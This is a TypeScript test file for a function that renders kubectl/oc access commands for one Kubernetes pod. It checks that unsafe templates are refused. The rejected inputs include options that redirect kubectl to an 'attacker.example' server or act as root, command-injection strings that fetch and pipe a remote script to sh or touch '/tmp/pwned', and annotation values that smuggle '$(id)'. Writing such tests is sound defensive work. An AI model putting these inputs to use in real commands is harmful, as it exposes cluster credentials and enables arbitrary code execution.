import assert from 'node:assert/strict';
import fc from 'fast-check';
import { type CommandSubject, renderAccessCommand } from '../../../../src/access/policy/access-command.ts';
import { callsIn, sampledCommands } from '../../../support/access-commands.ts';
import { runs } from '../../../support/runs.ts';

const pod: CommandSubject = {
  namespace: 'payments',
  name: 'web-1',
  labels: { app: 'web', 'team.example.com/name': 'money' },
  annotations: {
    note: 'it\'s $(id); `id` "x" \\',
    plain: 'a.b-c',
    option: '--as=root',
    empty: '',
    zsh: '=ls',
    fish: '%self',
    escape: 'a\u001b[2Jb',
    rtl: 'a\u202eb',
  },
};

function render(source: string, subject: CommandSubject = pod): string {
  const rendered = renderAccessCommand(source, subject);
  return 'text' in rendered ? rendered.text : `refused: ${rendered.violation.code} ${rendered.violation.message}`;
}

const exec = 'kubectl exec -ti {{ .Metadata.Name }} --';
const annotation = (key: string): string => `{{ index .Metadata.Annotations "${key}" }}`;

describe('access command', () => {
  for (const [source, text] of [
    [
      'kubectl exec -ti -n {{ .Metadata.Namespace }} {{ .Metadata.Name }} -- /bin/sh',
      'kubectl exec -ti -n payments web-1 -- /bin/sh',
    ],
    ['oc exec -n "{{.Metadata.Namespace}}" pod/{{  .Metadata.Name }} -- id', 'oc exec -n "payments" pod/web-1 -- id'],
    ["kubectl attach --stdin=true -it '{{ .Metadata.Name }}' -c app", "kubectl attach --stdin=true -it 'web-1' -c app"],
    ['kubectl logs -f {{ .Metadata.Name }} app --since 5m', 'kubectl logs -f web-1 app --since 5m'],
    [`${exec} curl --server=x -s`, 'kubectl exec -ti web-1 -- curl --server=x -s'],
    [`${exec} {{ index .Metadata.Labels "team.example.com/name" }}`, 'kubectl exec -ti web-1 -- money'],
    [
      `${exec} {{index  .Metadata.Annotations  "note"}} y`,
      `kubectl exec -ti web-1 -- 'it'\\''s $(id); \`id\` "x" '\\\\ y`,
    ],
    [`${exec} "user=${annotation('plain')}"`, 'kubectl exec -ti web-1 -- "user=a.b-c"'],
    [`${exec} ${annotation('zsh')} ${annotation('fish')}`, "kubectl exec -ti web-1 -- '=ls' '%self'"],
    [`  ${exec} sh\n`, 'kubectl exec -ti web-1 -- sh'],
    [
      `${exec} sh -c 'tail -f /var/log/*.log | grep -v "GET /" && echo $HOME; exit'`,
      `kubectl exec -ti web-1 -- sh -c 'tail -f /var/log/*.log | grep -v "GET /" && echo $HOME; exit'`,
    ],
    [`${exec} grep '\\.js\\\\' '\\${annotation('plain')}'`, "kubectl exec -ti web-1 -- grep '\\.js\\\\' '\\a.b-c'"],
    ['kubectl port-forward {{ .Metadata.Name }} 8443:https', 'kubectl port-forward web-1 8443:https'],
    ['kubectl logs --tail=-1 {{ .Metadata.Name }}', 'kubectl logs --tail=-1 web-1'],
  ] as const) {
    it(`renders ${JSON.stringify(source)}`, () => assert.equal(render(source), text));
  }

  for (const source of [
    '{{ .Metadata.UID }}',
    '{{ .metadata.name }}',
    '{{- .Metadata.Name }}',
    '{{ .Metadata.Name | printf "%s" }}',
    '{{ .Metadata.Labels.app }}',
    '{{ index .Metadata.Labels app }}',
    '{{ index .Metadata.Labels "a" "b" }}',
    '{{ index .Metadata.Labels "a\\"b" }}',
    '{{ index .Metadata.Finalizers "a" }}',
    '{{ if true }}x{{ end }}',
    '{{/* note */}}',
    '{{ .Metadata.Name',
    'x {{',
    '{{{ .Metadata.Name }}',
    `'{{{ .Metadata.Name }}'`,
  ]) {
    it(`rejects ${JSON.stringify(source)} and lists the allowed placeholders`, () => {
      const message =
        /^refused: InvalidAccessCommand .*only these placeholders are allowed: \{\{ \.Metadata\.Name \}\}, /;
      assert.match(render(source), message);
      assert.match(render(`${exec} ${source}`), message);
    });
  }

  for (const [title, source, expected] of [
    ['an empty command', ' ', /is empty/],
    ['a line break', `${exec} a\nb`, /U\+000A/],
    ['an escape character', `${exec} a\u001b[31m`, /U\+001B/],
    ['a bidi override', `${exec} a\u202e`, /U\+202E/],
    ['a command that is too long', 'x'.repeat(4097), /4097 characters/],
    ['another program', 'curl {{ .Metadata.Name }}', /begins with "curl"; write kubectl or oc/],
    ['a program at a path', '/tmp/kubectl exec {{ .Metadata.Name }}', /begins with "\/tmp\/kubectl"/],
    ['a variable for kubectl', `PATH=/tmp ${exec} sh`, /begins with "PATH=\/tmp"/],
    ['a program with a longer name', 'kubectl-x {{ .Metadata.Name }}', /begins with "kubectl-x"/],
    ['a program in a placeholder', '{{ .Metadata.Name }}', /begins with/],
    ['no pod', 'kubectl exec -n x -- {{ .Metadata.Name }}', /does not name the granted pod; write \{\{/],
    ['another target', 'kubectl exec deploy/web {{ .Metadata.Name }}', /has the target "deploy\/web"; write \{\{/],
    ['a longer target', 'kubectl exec {{ .Metadata.Name }}-0 -- sh', /has the target "\{\{ \.Metadata\.Name \}\}-0"/],
    ['another verb', 'kubectl delete pod {{ .Metadata.Name }}', /has "delete" after kubectl; allowed are exec, /],
    ['an option before the verb', 'kubectl -n x exec {{ .Metadata.Name }}', /has "-n" after kubectl/],
    ['a quoted verb', 'kubectl "exec" {{ .Metadata.Name }}', /after kubectl; allowed are exec, attach, logs/],
    ['a label that the pod lacks', `${exec} {{ index .Metadata.Labels "nope" }}`, /label "nope", which pod web-1/],
    ['an inherited property', `${exec} {{ index .Metadata.Labels "constructor" }}`, /does not have/],
    ['an empty value', `${exec} ${annotation('empty')}`, /annotation "empty", which is empty on pod web-1/],
    ['a value that would be an option', `${exec} ${annotation('option')}`, /begins with "-"/],
    ['control characters in a value', `${exec} ${annotation('escape')}`, /U\+001B/],
    ['bidi overrides in a value', `${exec} ${annotation('rtl')}`, /U\+202E/],
  ] as const) {
    it(`rejects ${title}`, () => assert.match(render(source), new RegExp(`^refused: .*${expected.source}`)));
  }

  for (const options of [
    '--server=https://attacker.example',
    '--server https://attacker.example',
    '-s https://attacker.example',
    '-is https://attacker.example',
    '"--server=https://attacker.example"',
    "'--server' https://attacker.example",
    '""--server=https://attacker.example',
    '--insecure-skip-tls-verify',
    '--kubeconfig=/tmp/x',
    '--as=root',
    '-f https://attacker.example',
    '-n x --token=y',
    '--stdin --user=x',
    '"a -- b" --server=x',
    '"\'--\'" --server=x',
    '"--" --server=x',
  ]) {
    it(`rejects the options ${options}, before and after the pod`, () => {
      for (const source of [
        `kubectl exec ${options} {{ .Metadata.Name }} -- sh`,
        `kubectl exec {{ .Metadata.Name }} ${options} -- sh`,
      ]) {
        assert.match(render(source), /^refused: InvalidAccessCommand accessCommand has the (option|target) /, source);
      }
    });
  }

  it('rejects an option whose value would be --, because options could follow', () => {
    const source = 'kubectl exec {{ .Metadata.Name }} -n -- --server=https://attacker.example';
    assert.match(render(source), /has the option -n without a value; write one/);
  });

  for (const [end, found] of [
    ['sh; curl https://example.org/x | sh', '";" outside of quotes'],
    ['sh | sh', '"|" outside of quotes'],
    ['sh && id', '"&" outside of quotes'],
    ['sh > x', '">" outside of quotes'],
    ['$(id)', '"$" outside of quotes'],
    ['`id`', '"`" outside of quotes'],
    ['sh # and then', '"#" outside of quotes'],
    ['a{b,c}', '"{" outside of quotes'],
    ['~/x', '"~" outside of quotes'],
    ['*', '"*" outside of quotes'],
    ['!!', '"!" outside of quotes'],
    ['\\; id', '"\\\\" outside of quotes'],
    ['=ls', '"=" outside of quotes'],
    ["''=ls", '"=" outside of quotes'],
    ['%self', '"%" outside of quotes'],
    ['‘quoted’', '"‘" outside of quotes'],
    ['"$(id)"', 'a double quote'],
    ['"`id`"', 'a double quote'],
    ['"\\"; id; \\""', 'a double quote'],
    ['"open', 'a double quote'],
    ["'open", 'a single quote'],
    ["'a\\' b ' ; touch /tmp/pwned #'", 'a single quote'],
    ["'a\\\\\\' b", 'a single quote'],
  ] as const) {
    it(`rejects ${end} because of ${found}`, () => {
      assert.ok(render(`${exec} ${end}`).startsWith(`refused: InvalidAccessCommand accessCommand has ${found}`));
    });
  }

  for (const [before, after] of [
    ['"', '"'],
    ["'", "'"],
    ['a "b" "', '"'],
    [`'a' "b'`, '"'],
  ] as const) {
    it(`rejects a value that needs quotes between ${before} and ${after}`, () => {
      assert.match(render(`${exec} ${before}${annotation('note')}${after}`), /the placeholder as a word of its own/);
    });
  }

  it('renders a command of exactly 4096 characters, and rejects one more character anywhere', () => {
    const filled = (length: number): CommandSubject => ({ ...pod, name: 'x'.repeat(length) });
    const before = 'kubectl logs ';
    const name = '{{ .Metadata.Name }}';
    assert.equal(render(`${before}${name}`, filled(4083)), `${before}${'x'.repeat(4083)}`);
    assert.equal(render(`${before}${name} y`, filled(4081)), `${before}${'x'.repeat(4081)} y`);
    for (const [source, length] of [
      [name, 4084],
      [`${name} y`, 4082],
      [`${name} ${name}`, 4082],
      [`pod/${name}`, 4080],
    ] as const) {
      assert.match(render(`${before}${source}`, filled(length)), /longer than 4096/, `${source.slice(-3)} ${length}`);
    }
  });

  it('accepts any text without throwing', () => {
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom('{{', '}}', '.Metadata.Name', 'index', '"', "'", '$', '`', '\\', ' ', 'kubectl '),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => void render(pieces.join(''))),
      { seed: 7, numRuns: runs(5000) },
    );
  });

  // test/integration/client/shell-words.test.ts does the same in zsh and fish.
  it('is one call of kubectl in real shells, with each value of the pod as it is', () => {
    const samples = sampledCommands(runs(30_000, 3000));
    assert.ok(samples.length > 200, `${samples.length} commands to run`);
    for (const shell of ['sh', 'bash']) {
      const calls = callsIn(
        shell,
        samples.map(({ text }) => text),
      );
      for (const [index, { args, text }] of samples.entries()) assert.deepEqual(calls[index], args, text);
    }
  }).timeout(120_000);
});
